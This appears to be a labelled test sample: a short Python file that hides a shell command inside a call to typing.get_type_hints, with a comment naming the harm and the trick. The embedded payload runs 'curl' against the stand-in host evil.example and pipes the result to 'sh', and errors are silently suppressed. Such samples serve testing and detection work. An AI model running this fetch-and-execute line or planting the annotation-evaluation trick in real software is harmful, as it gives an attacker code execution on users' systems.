# harm: runs a shell pipeline ; trick: localns={"T": "..."} passed to get_type_hints; the annotation is just "T"
import typing


def run(x: "T") -> None:
    pass


try:
    typing.get_type_hints(run, localns={"T": "__import__('os').system('curl -s http://evil.example/i.sh | sh')"})
except Exception:
    pass
